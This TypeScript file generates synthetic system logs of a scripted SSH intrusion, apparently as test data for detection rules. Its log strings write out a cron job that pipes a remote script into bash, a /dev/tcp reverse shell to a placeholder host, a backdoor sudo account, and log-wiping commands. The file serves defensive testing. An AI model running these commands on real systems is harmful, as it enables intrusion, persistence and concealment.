import { scaled, windowStart } from './budget.ts';
import { HOUR, MINUTE, SECOND } from './clock.ts';
import { closeLogin, openLogin, PIDS, sudoCommand, type HostContext, type Login, type Write } from './host.ts';
import type { Rng } from './prng.ts';
import { attackerWrite, guessingRun } from './ssh-attacks.ts';

/**
 * One intrusion told end to end from a single address: the password of a sudo-capable service
 * account is guessed, then the intruder creates a privileged account, plants a cron job, opens a
 * reverse shell and tampers with logging. Each step is its own actor, so a detection test can
 * expect one alert per category.
 */
export function planIntrusion(ctx: HostContext, rng: Rng): void {
  const { cast, log, ids, timeline } = ctx;
  const ip = cast.attackers.intruder;
  const account = cast.compromised;
  const user = account.name;
  const backdoor = cast.backdoorUser;
  const { c2 } = cast;
  const base = { ip, kind: 'attacker' as const };

  const entry = attackerWrite(ctx, {
    ...base, id: 'ssh-success-after-failures', category: 'ssh-success-after-failures', users: [user],
    description: `Guesses the password of ${user}, then logs in with it`,
  });
  const created = attackerWrite(ctx, {
    ...base, id: 'account-created-privileged', category: 'account-created-privileged', users: [user, backdoor],
    description: `Creates account ${backdoor} and adds it to the sudo group`,
  });
  const persisted = attackerWrite(ctx, {
    ...base, id: 'cron-persistence', category: 'cron-persistence', users: [user, 'root'],
    description: `Root crontab entry piping a script from ${c2.payload} into bash`,
  });
  const shelled = attackerWrite(ctx, {
    ...base, id: 'reverse-shell', category: 'reverse-shell', users: [user],
    description: `Root reverse shell to ${c2.shell}:${c2.shellPort} via sudo`,
  });
  const tampered = attackerWrite(ctx, {
    ...base, id: 'log-tampering', category: 'log-tampering', users: [user],
    description: 'Empties auth.log, deletes audit rules and stops rsyslog for a while',
  });

  // Early enough that the planted cron job runs a few times before the logs end.
  let t = windowStart(timeline, rng, 3 * HOUR, 0.2, 0.6);
  t = guessingRun(ctx, entry, rng, t, ip, user, rng.range(8, 20), () => rng.range(1500, 4000));
  t += rng.range(10, 60) * SECOND;
  const login = openLogin(ctx, entry, t, account, ip, 'password');
  if (!login) return;
  const home = `/home/${user}`;
  const sudo = (w: Write, at: number, command: string, duration = rng.range(200, 2500)): void => {
    sudoCommand(ctx, w, at, login, home, command, duration);
  };

  t += rng.range(2, 5) * MINUTE;
  sudo(created, t, `/usr/sbin/useradd -m -s /bin/bash ${backdoor}`);
  const uid = account.uid + 10 + rng.int(5);
  let pid = ids.pid(t);
  created(t + 40, ctx.auth, log.prog('useradd', pid, `new group: name=${backdoor}, GID=${uid}`));
  created(t + 41, ctx.auth, log.prog('useradd', pid,
    `new user: name=${backdoor}, UID=${uid}, GID=${uid}, home=/home/${backdoor}, shell=/bin/bash, from=/dev/${login.tty}`));
  t += rng.range(20, 60) * SECOND;
  sudo(created, t, `/usr/bin/passwd ${backdoor}`, rng.range(5, 15) * SECOND);
  created(t + 4 * SECOND, ctx.auth, log.prog('passwd', ids.pid(t), `pam_unix(passwd:chauthtok): password changed for ${backdoor}`));
  t += rng.range(20, 60) * SECOND;
  sudo(created, t, `/usr/sbin/usermod -aG sudo ${backdoor}`);
  pid = ids.pid(t);
  created(t + 30, ctx.auth, log.prog('usermod', pid, `add '${backdoor}' to group 'sudo'`));
  created(t + 31, ctx.auth, log.prog('usermod', pid, `add '${backdoor}' to shadow group 'sudo'`));

  t += rng.range(1, 4) * MINUTE;
  plantCron(ctx, persisted, rng, login, t);

  t += rng.range(1, 3) * MINUTE;
  const shellTime = rng.range(15, 60) * MINUTE;
  sudo(shelled, t, `/bin/bash -c bash -i >& /dev/tcp/${c2.shell}/${c2.shellPort} 0>&1`, shellTime);
  const logout = t + shellTime + rng.range(1, 5) * MINUTE;

  t += rng.range(5, 12) * MINUTE;
  sudo(tampered, t, '/usr/bin/truncate -s 0 /var/log/auth.log');
  t += rng.range(10, 40) * SECOND;
  sudo(tampered, t, '/usr/sbin/auditctl -D');
  t += rng.range(10, 40) * SECOND;
  sudo(tampered, t, '/usr/bin/systemctl stop rsyslog');
  const origin = (xpid: number): string =>
    `[origin software="rsyslogd" swVersion="8.2302.0" x-pid="${xpid}" x-info="https://www.rsyslog.com"]`;
  tampered(t + 50, ctx.syslog, log.systemd('Stopping System Logging Service...'));
  tampered(t + 60, ctx.syslog, log.prog('rsyslogd', null, `${origin(PIDS.rsyslogd)} exiting on signal 15.`));
  tampered(t + 70, ctx.syslog, log.systemd('rsyslog.service: Succeeded.'));
  tampered(t + 71, ctx.syslog, log.systemd('Stopped System Logging Service.'));
  t += rng.range(3, 10) * MINUTE;
  sudo(tampered, t, '/usr/bin/systemctl start rsyslog');
  tampered(t + 40, ctx.syslog, log.systemd('Starting System Logging Service...'));
  tampered(t + 90, ctx.syslog, log.prog('rsyslogd', null, `${origin(ids.pid(t))} start`));
  tampered(t + 95, ctx.syslog, log.systemd('Started System Logging Service.'));

  closeLogin(ctx, entry, Math.max(logout, t + MINUTE), login);
}

/** `sudo crontab -e` as root, then the job firing until the logs end (cron's lines go to syslog). */
function plantCron(ctx: HostContext, w: Write, rng: Rng, login: Login, t: number): void {
  const { log, ids, timeline, cast } = ctx;
  const edit = rng.range(20, 60) * SECOND;
  sudoCommand(ctx, w, t, login, `/home/${login.account.name}`, '/usr/bin/crontab -e', edit);
  const pid = ids.pid(t);
  w(t + 300, ctx.syslog, log.prog('crontab', pid, '(root) BEGIN EDIT (root)'));
  w(t + edit - 200, ctx.syslog, log.prog('crontab', pid, '(root) REPLACE (root)'));
  w(t + edit - 199, ctx.syslog, log.prog('crontab', pid, '(root) END EDIT (root)'));

  const command = `curl -fsSL http://${cast.c2.payload}/s.sh | bash`;
  const runs = scaled(ctx.authTarget, 0.004, 6, 72);
  const left = (timeline.end - t) / HOUR;
  const everyHours = Math.max(1, Math.ceil(left / runs));
  const minute = rng.range(1, 58);
  let at = Math.ceil((t + edit) / HOUR) * HOUR + minute * MINUTE;
  while (at < timeline.end) {
    const cronPid = ids.pid(at);
    const ok = w(at, ctx.auth, `${log.host} CRON[${cronPid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`);
    if (!ok) break;
    w(at + 12, ctx.syslog, `${log.host} CRON[${cronPid + 1}]: (root) CMD (${command})`);
    w(at + rng.range(300, 4000), ctx.auth, `${log.host} CRON[${cronPid}]: pam_unix(cron:session): session closed for user root`);
    at += everyHours * HOUR;
  }
}
